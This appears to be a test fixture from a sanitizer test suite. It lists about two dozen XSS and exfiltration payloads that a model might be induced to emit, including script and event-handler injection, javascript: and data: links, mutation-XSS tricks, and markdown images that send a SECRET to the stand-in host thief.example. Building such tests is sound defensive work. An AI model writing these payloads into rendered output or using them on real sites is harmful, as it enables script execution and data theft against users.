/** What a model could be made to write in order to run something, or to send something away. All call `window.hit`. */

const HOST = "https://thief.example";

export const ATTACKS = [
  "<script>hit(1)</script>",
  "<img src=x onerror=hit(2)>",
  "<svg onload=hit(3)><script>hit(3)</script></svg>",
  "<iframe src=\"javascript:hit(4)\"></iframe><object data=\"javascript:hit(4)\"></object><embed src=\"javascript:hit(4)\">",
  "<style>@import url(" + HOST + "/5.css); body{background:url(" + HOST + "/5)}</style>",
  "<link rel=stylesheet href=" + HOST + "/6.css><meta http-equiv=refresh content=\"0;url=" + HOST + "/6\"><base href=" + HOST + ">",
  "<form action=" + HOST + "><input name=a><button formaction=javascript:hit(7)>go</button></form>",
  "[click](javascript:hit(8)) [click](JaVaScRiPt:hit(8)) [click](java\nscript:hit(8)) [click](&#106;avascript:hit(8))",
  "[click](data:text/html;base64,PHNjcmlwdD5oaXQoOSk8L3NjcmlwdD4=) [click](vbscript:hit(9)) <javascript:hit(9)>",
  "![secret](" + HOST + "/10?d=SECRET) ![s](//thief.example/10) ![s][r]\n\n[r]: " + HOST + "/10b?d=SECRET",
  "![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImhpdCgxMSkiLz4=) ![x](javascript:hit(11))",
  "[https://bank.example](" + HOST + "/12) [same](/v1/responses) [port](//thief.example) [user](https://bank.example@thief.example)",
  "<a href=\"javascript:hit(13)\" onclick=hit(13)>x</a> <details open ontoggle=hit(13)>",
  "[x](https://a.example \"\\\" onmouseover=hit(14) x=\\\"\") ![a\" onerror=\"hit(14)](x)",
  "```\"><img src=x onerror=hit(15)>\n</code></pre><script>hit(15)</script>\n```",
  "```html\n<script>hit(16)</script>\n```\n\n`<img src=x onerror=hit(16)>`",
  "$\\href{javascript:hit(17)}{x}$ $\\includegraphics{" + HOST + "/17.png}$ $\\htmlData{a=b}{x}$ $$\\style{background:url(" + HOST + "/17)}{x}$$",
  "| <img src=x onerror=hit(18)> | b |\n|--|--|\n| <script>hit(18)</script> | [c](javascript:hit(18)) |",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=hit(19)&gt;\">",
  "<noscript><p title=\"</noscript><img src=x onerror=hit(20)>\"> &lt;script&gt;hit(20)&lt;/script&gt;",
  "<img srcset=\"" + HOST + "/21 1x\"><picture><source srcset=" + HOST + "/21></picture><video poster=" + HOST + "/21 src=" + HOST + "/21>",
  "<x onclick=hit(22) style=\"position:fixed;inset:0;background:url(" + HOST + "/22)\">over the page</x>",
]; // prettier-ignore
